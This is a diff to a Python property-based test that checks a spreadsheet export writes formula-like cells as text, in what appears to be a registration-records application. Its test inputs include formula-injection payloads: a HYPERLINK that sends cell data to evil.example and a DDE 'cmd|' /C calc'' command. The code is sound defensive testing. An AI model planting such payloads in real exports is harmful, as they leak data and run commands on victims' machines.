@@ -18,23 +18,24 @@ from projections.spreadsheet import FORMULA_STARTS
 from tests.gateway.test_audit_cli import NEW, OFFICER, lianjian, store  # noqa: F401 - the store fixture
 
 dangerous = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.one_of(
-    st.sampled_from(['HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0",
-                     "1+1", "=1+1", "\t=1"]),
+    st.sampled_from(['HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0",
+                     "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "=1+1", "\t=1"]),
     st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1, max_size=40)))
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])
 @given(reason=dangerous, basis=dangerous)
-def test_cells_that_would_start_a_formula_are_written_as_text(store, tmp_path, inputs_tried, reason, basis):  # noqa: F811
+def test_cells_that_would_start_a_formula_are_written_as_text(store, tmp_path, inputs_tried,  # noqa: F811
+                                                              reason, basis):
     inputs_tried["formula-like dossier cells"] += 1
     application = open_application(store)
     try:
         org = application.find_organization(NEW).id
         day = date(2022, 1, 5)
         with clock_set_to(lambda: datetime.combine(day, time(9), tzinfo=SHANGHAI)):
-            application.change_registration(Context(OFFICER, reason, day, basis), org,
-                                            domicile=f"渝中区人民路{100 + inputs_tried['formula-like dossier cells']}号")
+            moved = f"渝中区人民路{100 + inputs_tried['formula-like dossier cells']}号"  # a change each time
+            application.change_registration(Context(OFFICER, reason, day, basis), org, domicile=moved)
     finally:
         application.close()
 
